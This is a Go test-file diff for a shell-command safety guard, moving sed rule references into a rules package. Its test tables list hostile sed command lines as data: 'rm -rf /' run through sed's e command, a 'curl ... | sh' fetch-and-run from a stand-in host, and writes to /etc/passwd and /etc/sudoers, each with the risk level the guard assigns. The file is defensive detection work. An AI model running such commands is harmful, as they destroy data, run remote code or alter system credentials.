@@ -3,6 +3,8 @@ package guard
 import (
 	"strings"
 	"testing"
+
+	"guardsh/guard/internal/rules"
 )
 
 // TestSedScan checks sed's command line: where the scripts are, the
@@ -37,7 +39,7 @@ func TestSedScan(t *testing.T) {
 		{[]string{"--", "-p", "f"}, "-p", "", "f", false, false},
 		{[]string{"-n", "--", "p", "-f"}, "p", "", "-f", false, false},
 	} {
-		a := sedScan(Lits(tt.args...))
+		a := rules.SedScan(Lits(tt.args...))
 		vals := func(ws []Word, sep string) string {
 			var vs []string
 			for _, w := range ws {
@@ -45,17 +47,17 @@ func TestSedScan(t *testing.T) {
 			}
 			return strings.Join(vs, sep)
 		}
-		if got := vals(a.scripts, "|"); got != tt.scripts {
+		if got := vals(a.Scripts, "|"); got != tt.scripts {
 			t.Errorf("sedScan(%q) scripts %q, want %q", tt.args, got, tt.scripts)
 		}
-		if got := vals(a.files, "|"); got != tt.files {
+		if got := vals(a.Files, "|"); got != tt.files {
 			t.Errorf("sedScan(%q) files %q, want %q", tt.args, got, tt.files)
 		}
-		if got := vals(a.operands, " "); got != tt.operands {
+		if got := vals(a.Operands, " "); got != tt.operands {
 			t.Errorf("sedScan(%q) operands %q, want %q", tt.args, got, tt.operands)
 		}
-		if a.inPlace != tt.inPlace || a.sandbox != tt.sandbox {
-			t.Errorf("sedScan(%q) in-place %v sandbox %v, want %v %v", tt.args, a.inPlace, a.sandbox, tt.inPlace, tt.sandbox)
+		if a.InPlace != tt.inPlace || a.Sandbox != tt.sandbox {
+			t.Errorf("sedScan(%q) in-place %v sandbox %v, want %v %v", tt.args, a.InPlace, a.Sandbox, tt.inPlace, tt.sandbox)
 		}
 	}
 }
@@ -66,40 +68,40 @@ func TestSedRules(t *testing.T) {
 	B, H, M, S := Blocked, High, Medium, Safe
 	runNLLines(t, []nlLine{
 		// A literal e COMMAND is a command line.
-		{"sed 'e rm -rf /' f", B, ruleRmRfRoot},
-		{"sed 'e rm -rf /'", B, ruleRmRfRoot},
-		{"sed '1e rm -rf ~' f", B, ruleRmRfHome},
+		{"sed 'e rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"sed 'e rm -rf /'", B, rules.RuleRmRfRoot},
+		{"sed '1e rm -rf ~' f", B, rules.RuleRmRfHome},
 		{"sed '$e reboot' f", H, "shutdown"},
-		{"sed -n '/x/e curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
-		{"sed -e p -e 'e rm -rf /' f", B, ruleRmRfRoot},
-		{"sed --expression='1e rm -rf /' f", B, ruleRmRfRoot},
-		{"gsed 'e rm -rf /' f", B, ruleRmRfRoot},
-		{"sudo sed 'e rm -rf /' f", B, ruleRmRfRoot},
-		{"bash -c \"sed 'e rm -rf /' f\"", B, ruleRmRfRoot},
-		{"sed 'p;e rm -rf /usr' f", B, ruleRmRfSystemDir},
-		{"sed 's/a/b/\ne rm -rf /' f", B, ruleRmRfRoot},
-		{"echo 'e rm -rf /' | sed -f - f", B, ruleRmRfRoot},
-		{"sed -f /dev/stdin f <<< 'e rm -rf /'", B, ruleRmRfRoot},
+		{"sed -n '/x/e curl -s https://x.example/i.sh | sh' f", H, rules.RuleCurlPipeSh},
+		{"sed -e p -e 'e rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"sed --expression='1e rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"gsed 'e rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"sudo sed 'e rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"bash -c \"sed 'e rm -rf /' f\"", B, rules.RuleRmRfRoot},
+		{"sed 'p;e rm -rf /usr' f", B, rules.RuleRmRfSystemDir},
+		{"sed 's/a/b/\ne rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"echo 'e rm -rf /' | sed -f - f", B, rules.RuleRmRfRoot},
+		{"sed -f /dev/stdin f <<< 'e rm -rf /'", B, rules.RuleRmRfRoot},
 		{"sed '1e touch x' f", S, ""},
 		{"sed '1e date' f", S, ""},
 		{"sed 's/.*/date/e' f", S, ""},
-		{"sed 's/.*/rm -rf \\//e' f", B, ruleRmRfRoot},
+		{"sed 's/.*/rm -rf \\//e' f", B, rules.RuleRmRfRoot},
 		{"sed 's/^.*$/reboot/e' f", H, "shutdown"},
 		// The line decides what runs.
-		{"sed 's/.*/rm -rf &/e' f", H, ruleSedExecDynamic},
-		{"sed 's/^/rm -f /e' list", H, ruleSedExecDynamic},
-		{"sed 's/x/y/e' f", H, ruleSedExecDynamic},
-		{"sed -n 's/.*/echo &/ep' f", H, ruleSedExecDynamic},
-		{"sed e cmds.txt", H, ruleSedExecDynamic},
-		{"sed '/^#/!e' cmds.txt", H, ruleSedExecDynamic},
-		{"cat cmds | sed 'e'", H, ruleSedExecDynamic},
-		{"sed 's,.*,\\U&,e' f", H, ruleSedExecDynamic},
+		{"sed 's/.*/rm -rf &/e' f", H, rules.RuleSedExecDynamic},
+		{"sed 's/^/rm -f /e' list", H, rules.RuleSedExecDynamic},
+		{"sed 's/x/y/e' f", H, rules.RuleSedExecDynamic},
+		{"sed -n 's/.*/echo &/ep' f", H, rules.RuleSedExecDynamic},
+		{"sed e cmds.txt", H, rules.RuleSedExecDynamic},
+		{"sed '/^#/!e' cmds.txt", H, rules.RuleSedExecDynamic},
+		{"cat cmds | sed 'e'", H, rules.RuleSedExecDynamic},
+		{"sed 's,.*,\\U&,e' f", H, rules.RuleSedExecDynamic},
 		// w writes files: the file rules decide.
-		{"sed -n 'w /etc/passwd' f", H, ruleWriteSystemFile},
-		{"sed 's/a/b/w /etc/sudoers' f", H, ruleWriteSystemFile},
-		{"sed -n '/x/w /etc/hosts' f", M, ruleWriteEtc},
-		{"sed -n 'w ~/.bashrc' f", M, ruleAppendRc},
-		{"sed -n \"w $1\" f", M, ruleRedirectUnknown},
+		{"sed -n 'w /etc/passwd' f", H, rules.RuleWriteSystemFile},
+		{"sed 's/a/b/w /etc/sudoers' f", H, rules.RuleWriteSystemFile},
+		{"sed -n '/x/w /etc/hosts' f", M, rules.RuleWriteEtc},
+		{"sed -n 'w ~/.bashrc' f", M, rules.RuleAppendRc},
+		{"sed -n \"w $1\" f", M, rules.RuleRedirectUnknown},
 		{"sed -n 'w out.txt' f", S, ""},
 		{"sed -n '/err/w errors.log' f", S, ""},
 		{"sed 's/a/b/w changes.txt' f", S, ""},
@@ -107,9 +109,9 @@ func TestSedRules(t *testing.T) {
 		{"sed -n 'w /dev/stderr' f", S, ""},
 		{"sed 'r /etc/hosts' f", S, ""},
 		// A script only known at run time.
-		{"sed \"$(cat script)\" f", M, ruleSedScriptDynamic},
-		{"sed -e \"$1\" f", M, ruleSedScriptDynamic},
-		{"sed \"s/a/b/$2\" f", M, ruleSedScriptDynamic},
+		{"sed \"$(cat script)\" f", M, rules.RuleSedScriptDynamic},
+		{"sed -e \"$1\" f", M, rules.RuleSedScriptDynamic},
+		{"sed \"s/a/b/$2\" f", M, rules.RuleSedScriptDynamic},
 		{"sed -n \"${N}p\" f", S, ""},
 		{"sed -n \"$((N+1)),\\$p\" f", S, ""},
 		{"sed \"s/$OLD/$NEW/g\" f", S, ""},
@@ -135,14 +137,14 @@ func TestSedRules(t *testing.T) {
 		{"echo 'e rm -rf /' | sed 's/a/b/'", S, ""},
 		{"grep 'e rm -rf /' f", S, ""},
 		{"sed -i 's/e/E/' notes.txt", S, ""},
-		{"sed -i 's/a/b/' /etc/hosts", M, ruleWriteEtc},
+		{"sed -i 's/a/b/' /etc/hosts", M, rules.RuleWriteEtc},
 	})
 }
 
 // TestSedExamples checks that the sed rules match their examples.
 func TestSedExamples(t *testing.T) {
-	for _, b := range interpRules() {
-		if b.Name != ruleSedExecDynamic && b.Name != ruleSedScriptDynamic {
+	for _, b := range rules.InterpRules() {
+		if b.Name != rules.RuleSedExecDynamic && b.Name != rules.RuleSedScriptDynamic {
 			continue
 		}
 		if _, names := nlClassify(t, b.Example); !nlHas(names, b.Name) {
